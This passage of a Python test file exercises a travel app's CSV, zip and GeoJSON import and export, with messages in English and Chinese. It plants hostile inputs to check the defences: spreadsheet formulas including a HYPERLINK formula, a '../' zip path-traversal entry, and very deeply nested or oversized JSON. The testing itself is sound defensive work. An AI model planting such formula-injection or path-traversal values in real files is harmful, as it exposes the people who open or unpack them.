            store.itinerary_stops.update()
            .where(
                store.itinerary_stops.c.itinerary_id == "shenzhen-mini", store.itinerary_stops.c.position == 1
            )
            .values(note="=1+1")
        )


def test_formula_cells_are_guarded_in_the_export_and_round_trip_with_their_real_text(db: store.Store) -> None:
    plant_formulas(db)
    first = transfer.export_zip(db, "shenzhen")
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        text = {i.filename.split("/")[1]: archive.read(i).decode("utf-8-sig") for i in archive.infolist()}
    rows = {r[0]: r for r in csv.reader(io.StringIO(text["landmarks.csv"], newline=""))}
    columns = rows["id"]
    ping = dict(zip(columns, rows["ping-an-finance-center"], strict=True))
    for name, value in FORMULAS.items():
        # the apostrophe: a spreadsheet shows text; "+1" is a plain number, never a formula
        assert ping[name] == (value if value == "+1" else "'" + value), name
    assert ping["lat"] == "22.5366" and ping["lon"] == "114.0503"  # numbers stay numbers
    assert "'@SUM(A1:A9)" in text["itineraries.csv"] and "'=1+1" in text["itinerary_stops.csv"]

    plan = transfer.preview(db, transfer.read_upload("shenzhen.zip", first), EDDIE)
    assert plan.ok and not plan.rows, plan.report()  # the importer reads the real text back

    db.replace_all(Dataset((), (), (), (), ()))
    transfer.apply(db, transfer.preview(db, transfer.read_upload("shenzhen.zip", first), ADA), ADA)
    lm = next(lm for lm in db.dataset().landmarks if lm.id == "ping-an-finance-center")
    assert {name: getattr(lm, name) for name in FORMULAS} == FORMULAS
    assert transfer.export_zip(db, "shenzhen") == first  # byte-identical


def test_a_formula_typed_in_a_spreadsheet_upload_is_refused_or_kept_as_typed(db: store.Store) -> None:
    """A cell without our guard is data like any other: the importer does not run or strip it."""
    text = GOOD.decode("utf-8-sig").replace("Ping An Finance Center", "=1+1")
    plan = transfer.preview(db, {"landmarks.csv": text.encode()}, EDDIE)
    assert plan.ok, plan.report()
    [changed] = plan.landmarks.changed
    assert changed.after["name"] == "=1+1"


def test_no_exported_cell_is_evaluated_by_libreoffice(db: store.Store, tmp_path: Path) -> None:
    """A spreadsheet engine nobody here wrote: LibreOffice headless converting the CSV evaluates
    an unguarded formula (the control) and none of the exported cells."""
    soffice = shutil.which("soffice")
    if soffice is None:
        if os.environ.get("CI") == "true":
            pytest.fail("LibreOffice (soffice) is missing: apt-get install libreoffice-calc")
        pytest.skip("LibreOffice (soffice) is not installed")
    plant_formulas(db)
    exported = transfer.export_files(db, "shenzhen")["landmarks.csv"]
    raw = exported.decode("utf-8-sig").replace("'=HYPERLINK", "=HYPERLINK").encode()  # the guard undone
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "guarded.csv").write_bytes(exported)
    (tmp_path / "in" / "raw.csv").write_bytes(raw)
    # field separator, text delimiter, UTF-8, first line, column types, language, quoted as text,
    # detect special numbers, ..., evaluate formulas: on
    options = "44,34,76,1,,0,false,true,false,false,true,-1"
    for name in ("guarded", "raw"):
        subprocess.run(
            [
                soffice,
                "--headless",
                "--norestore",
                f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
                f"--infilter=CSV:{options}",
                "--convert-to",
                "csv",
                "--outdir",
                str(tmp_path / "out"),
                str(tmp_path / "in" / f"{name}.csv"),
            ],
            check=True,
            capture_output=True,
            timeout=180,
        )

    def converted(name: str) -> list[list[str]]:
        # "raw-raw.csv" with LibreOffice 24 (one file per sheet), "raw.csv" before
        [path] = (tmp_path / "out").glob(f"{name}*.csv")
        return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))

    def ping_row(rows: list[list[str]]) -> list[str]:
        return next(r for r in rows if r and r[0] == "ping-an-finance-center")

    assert ping_row(converted("raw"))[2] == "click"  # the control: LibreOffice ran the formula
    ping = ping_row(converted("guarded"))
    assert ping[2] == "'" + FORMULAS["name"] and ping[7] == "'-x" and ping[8] == "'@x"  # text, as exported
    assert not any(cell == "click" for row in converted("guarded") for cell in row)


# --- deep and wide JSON: problems, never an exception -------------------------------------------


def feature_collection(*features: str) -> bytes:
    return ('{"type": "FeatureCollection", "features": [' + ",".join(features) + "]}").encode()


def landmark_feature(name: str = '"Bay"', extra: str = "") -> str:
    return (
        '{"type": "Feature", "id": "shenzhen-bay", "geometry": {"type": "Point", "coordinates": [113.94, 22.51]},'
        f' "properties": {{"city_id": "shenzhen", "name": {name}, "themes": "nature"{extra}}}}}'
    )


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (  # 600 levels: the property conversion recursed (RecursionError at about 900)
            feature_collection(landmark_feature(name="[" * 600 + "]" * 600)),
            ["x.geojson:1: -: nested deeper than 20 levels; not read"],
        ),
        (  # 100,000 levels: the JSON decoder itself used to raise RecursionError
            b"[" * 100_000 + b"]" * 100_000,
            ["x.geojson:0: -: nested deeper than 20 levels; not read"],
        ),
        (
            feature_collection(landmark_feature(name='"' + "x" * 10_001 + '"')),
            ["x.geojson:1: name: 10,001 characters long; at most 10,000"],
        ),
        (  # wide: a list of 100,000 themes in one cell
            feature_collection(landmark_feature(extra=', "district": [' + ",".join(['"a"'] * 100_000) + "]")),
            ["x.geojson:1: district: 199,999 characters long; at most 10,000"],
        ),
    ],
    ids=["deep-property", "deep-document", "long-cell", "wide-list"],
)
def test_deep_and_wide_geojson_is_reported_not_raised(
    db: store.Store, data: bytes, expected: list[str]
) -> None:
    before = snapshot(db)
    plan = transfer.preview(db, transfer.read_upload("x.geojson", data), EDDIE)
    assert problems(plan) == expected
    assert set(plan.codes) == set(plan.problems)  # coded: a page says them in its language
    with pytest.raises(transfer.PlanHasProblems):
        transfer.apply(db, plan, EDDIE)
    assert snapshot(db) == before


def test_too_many_features_or_properties_are_reported_briefly(
    db: store.Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(transfer.geojson, "MAX_FEATURES", 3)
    plan = transfer.preview(
        db, transfer.read_upload("x.geojson", feature_collection(*[landmark_feature()] * 4)), EDDIE
    )
    assert problems(plan) == ["x.geojson:0: features: 4 features; at most 3 are read"]
    many = "".join(f', "p{i}": {i}' for i in range(5_000))
    plan = transfer.preview(
        db, transfer.read_upload("x.geojson", feature_collection(landmark_feature(extra=many))), EDDIE
    )
    assert len(plan.problems) == 10 and all("unknown property" in p.message for p in plan.problems)


def test_unguarding_keeps_every_problem_on_its_own_line(db: store.Store) -> None:
    lines = GOOD.decode("utf-8-sig").splitlines()
    guarded = lines[1].replace("Ping An Finance Center", '"\'=two\nlines"', 1)
    bad = lines[2].replace(",90,", ",ninety,", 1)
    raw = "\r\n".join([lines[0], guarded, bad]).encode()
    parsed = seed.parse_file(seed.SPEC_BY_NAME["landmarks.csv"], raw, [])
    assert parsed.rows[0][1]["name"] == "=two\nlines"  # the reader gives the real text back
    plan = transfer.preview(db, {"landmarks.csv": raw}, EDDIE)
    assert problems(plan) == ["landmarks.csv:4: visit_minutes: 'ninety' is not a whole number"]


# --- upload-level problems and the summary as codes: English as before, Chinese too ------------


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, raw in members.items():
            archive.writestr(name, raw)
    return buffer.getvalue()


EXPECTED = ", ".join(transfer.CONTRACT_FILES)
UPLOAD_PROBLEMS = [
    # (file name, bytes, the English text exactly as it was before it became a code, a Chinese part)
    ("backup.zip", b"not a zip", "not a readable zip file (File is not a zip file)", "不是可读取的 zip 文件"),
    (
        "notes.txt",
        b"x",
        f"not a data-contract file (expected {EXPECTED}, a zip of them, or a GeoJSON FeatureCollection of landmarks)",
        "不是数据约定文件",
    ),
    (
        "themes.csv",
        b"id;name\n",
        "columns are separated by semicolons, not commas: save as 'CSV UTF-8 (Comma delimited)'",
        "以分号",
    ),
    (
        "themes.csv",
        b"id\tname\n",
        "columns are separated by tabs, not commas: save as 'CSV UTF-8 (Comma delimited)'",
        "以制表符",
    ),
    (
        "b.zip",
        _zip({"../landmarks.csv": b"id\n"}),
        "unsafe path in zip (absolute or with '..'); not read",
        "路径不安全",
    ),
    (
        "b.zip",
        _zip({"read-me.md": b"x"}),
        f"not a data-contract file (expected {EXPECTED}, a zip of them, or a GeoJSON FeatureCollection of landmarks)",
        "不是数据约定文件",
    ),
    (
        "b.zip",
        _zip({f"{n}.txt/": b"" for n in range(65)}),
        "zip holds 65 entries; at most 64 are read",
        "最多读取 64 个",
    ),
    (
        "b.zip",
        _zip({"__MACOSX/._x": b""}),
        f"the zip holds no data-contract files ({EXPECTED})",
        "该 zip 中没有数据约定文件",
    ),
    ("l.geojson", b"\xff\xfe", "file is not UTF-8 text; nothing loaded", "不是 UTF-8 文本"),
    (
        "l.geojson",
        b"{",
        "not valid JSON (line 1: Expecting property name enclosed in double quotes)",
        "不是有效的 JSON（第 1 行",
    ),
    ("l.geojson", b"[]", "not a GeoJSON FeatureCollection", "不是 GeoJSON FeatureCollection"),
    (
        "l.geojson",
        b'{"type": "FeatureCollection", "features": 1}',
        "must be a list of features",
        "必须是要素",
    ),
    (
        "l.geojson",
        b'{"type": "FeatureCollection", "features": [1]}',
        "not a GeoJSON Feature",
        "不是 GeoJSON Feature",
    ),
    (
        "l.geojson",
        b'{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": 1}]}',
        "must be an object",
        "必须是对象",
    ),
    (
        "l.geojson",
        b'{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"id": "a"}, "geometry": {"type": "Line"}}]}',
        "must be a Point with coordinates [lon, lat]",
        "必须是坐标为",
    ),
]


@pytest.mark.parametrize(("name", "raw", "english", "chinese"), UPLOAD_PROBLEMS)
def test_an_upload_problem_keeps_its_english_and_reads_in_chinese(
    name: str, raw: bytes, english: str, chinese: str
) -> None:
    problems = transfer.read_upload(name, raw).problems
    messages = [p.message for p in problems]
    assert english in messages, messages
    [found] = [p for p in problems if p.message == english]
    assert found.code and chinese in found.text("zh") and found.text("en") == english


def test_an_unknown_geojson_property_and_a_file_given_twice_read_in_chinese() -> None:
    feature = b'{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"colour": 1}}]}'
    [unknown] = [p for p in transfer.read_upload("l.geojson", feature).problems if p.column == "colour"]
    assert unknown.message.startswith("unknown property (expected: id, city_id, ")
    assert unknown.text("zh").startswith("未知的属性（应为：id, city_id, ")
    twice = transfer.Upload.of({"themes.csv": b"id\n", "export/themes.csv": b"id\n"}).problems
    assert [p.message for p in twice] == ["themes.csv given twice (also as themes.csv)"]
    assert twice[0].text("zh") == "themes.csv 提供了两次（另一份为 themes.csv）"


def test_paths_that_are_not_uploads_read_in_chinese(tmp_path: Path) -> None:
    [missing] = transfer.read_path(tmp_path / "nowhere").problems
    assert (missing.message, missing.text("zh")) == ("no such file or folder", "没有这个文件或文件夹")
    [empty] = transfer.read_path(tmp_path).problems
    assert empty.message == f"no data-contract files here ({EXPECTED})"
    assert empty.text("zh") == f"此处没有数据约定文件（{EXPECTED}）"
    big = tmp_path / "big.zip"
    with big.open("wb") as handle:
        handle.truncate(transfer.MAX_UPLOAD_BYTES + 1)  # sparse: no 50 MB written
    [large] = transfer.read_path(big).problems
    assert (large.message, large.text("zh")) == ("file is larger than 50 MB", "文件大于 50 MB")


def test_the_import_summary_reads_in_both_languages() -> None:
    summary = transfer.ImportSummary({"city": (0, 1, 1), "landmark": (2, 0, 3)}, 7)
    assert (
        str(summary) == "cities: 0 added, 1 changed, 1 unchanged; landmarks: 2 added, 0 changed, 3 unchanged"
    )
    assert summary.text("en") == str(summary)
    assert summary.text("zh") == "城市：新增 0，更改 1，未变 1；地标：新增 2，更改 0，未变 3"
    assert transfer.describe_counts({"itinerary": (1, 0, 0)}, "zh") == "行程：新增 1，更改 0，未变 0"


def test_the_import_refusals_read_in_both_languages() -> None:
    stale = transfer.Stale("theme", "food")
    assert str(stale) == "theme 'food' was changed since the preview; preview the import again"
    assert stale.text("zh") == "主题“food”在预览后已被更改；请重新预览导入"
    broken = transfer.RulesBroken(
        curation.FieldErrors({"stops.1": rules.Problem("stop_archived", {"landmark_id": "x"})})
    )
    assert (
        str(broken)
        == "the content changed since the preview (stops.1: landmark 'x' is archived); preview the import again"
    )
    assert broken.text("zh") == "内容在预览后已更改（stops.1: 地标“x”已归档）；请重新预览导入"
    problems = transfer.PlanHasProblems(3)
    assert str(problems) == "3 problem(s) in the import; nothing was written"
    assert problems.text("zh") == "导入中有 3 个问题；未写入任何内容"


def test_an_address_left_unlooked_up_reads_in_chinese(db: store.Store) -> None:
    plan = transfer.preview(db, transfer.read_path(IMPORTS / "geocode"), ADA)
    assert "landmarks.csv:2: lat: 不能为空（或将纬度和经度都留空，并查询地址）" in plan.texts("zh")
    assert "landmarks.csv:2: lon: 不能为空" in plan.texts("zh")
    assert plan.texts("en") == problems(plan)
